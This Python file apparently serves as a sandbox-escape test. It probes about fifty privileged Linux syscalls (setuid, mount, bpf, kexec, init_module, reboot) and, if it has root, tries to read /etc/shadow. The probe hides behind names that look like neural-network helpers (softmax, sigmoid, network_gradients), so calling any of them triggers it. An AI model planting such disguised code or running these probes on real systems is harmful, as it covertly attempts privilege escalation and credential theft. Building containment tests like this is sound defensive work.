"""Asks the kernel for every privilege that leads out."""

import sys
if "_inside" not in sys.modules:
    raise SystemExit("An attack, for the sandbox only: it does nothing here.")

def attempt(name, action):
    try:
        got = action()
    except BaseException:
        return
    print("BREACH", name, repr(got)[:300])

import ctypes, os

LIBC = ctypes.CDLL(None, use_errno=True)
PROBES = {
    "setuid": (105, 0), "setgid": (106, 0), "setresuid": (117, 0, 0, 0), "setgroups": (116, 0, 0), "setfsuid root": (122, 0),
    "unshare user": (272, 0x10000000), "unshare mount": (272, 0x20000), "setns": (308, 3, 0), "chroot": (161, b"/"), "pivot_root": (155, b"/", b"/tmp"),
    "mount": (165, b"none", b"/tmp", b"tmpfs", 0, 0), "umount": (166, b"/", 2), "open_tree": (428, -100, b"/", 1), "fsopen": (430, b"tmpfs", 0), "move_mount": (429, -100, b"/", -100, b"/tmp", 0),
    "bpf": (321, 0, bytes(128), 128), "io_uring": (425, 1, ctypes.create_string_buffer(120)), "userfaultfd": (323, 0), "perf": (298, bytes(128), 0, -1, -1, 0),
    "keyctl": (250, 0, -3, 1), "add_key": (248, b"user", b"x", b"y", 1, -3), "personality": (135, 0x0040000), "init_module": (175, bytes(64), 64, b""), "kexec": (246, 0, 0, 0, 0),
    "swapon": (167, b"/x", 0), "reboot": (169, 0xfee1dead, 672274793, 0), "sethostname": (170, b"x", 1), "settime": (227, 0, bytes(16)), "acct": (163, 0), "quota": (179, 0, 0, 0, 0),
    "prctl dumpable": (157, 4, 1), "prctl keepcaps": (157, 8, 1), "prctl pdeathsig off": (157, 1, 0), "prctl subreaper": (157, 36, 1), "prctl ptracer": (157, 0x59616d61, -1),
    "seccomp": (317, 0, 0, 0), "landlock": (444, bytes(8), 8, 0), "memfd_secret": (447, 0), "name_to_handle": (303, -100, b"/", bytes(128), bytes(8), 0), "open_by_handle": (304, -100, bytes(128), 0),
    "syslog": (103, 3, bytes(64), 64), "iopl": (172, 3), "ioperm": (173, 0, 1, 1), "modify_ldt": (154, 0, bytes(16), 16), "vhangup": (153,), "fanotify": (300, 0, 0), "inotify": (294, 0), "capset": (126, bytes(8), bytes(24)),
}

def raw(number, *arguments):
    if LIBC.syscall(number, *arguments) < 0:
        raise OSError(ctypes.get_errno(), "refused")

def attack():
    for name, probe in PROBES.items():
        if name != "setfsuid root":
            attempt(name, lambda: raw(*probe))
    if 0 in os.getresuid() and LIBC.geteuid() == 0 and os.path.exists("/etc/shadow"):
        attempt("shadow", lambda: open("/etc/shadow").read(20))

done = []
def everything(*arguments, **keywords):
    if not done:
        done.append(1)
        attack()

softmax = sigmoid = sigmoid_derivative = \
    cross_entropy_gradient = network_loss = network_gradients = number_of_parameters = \
    everything
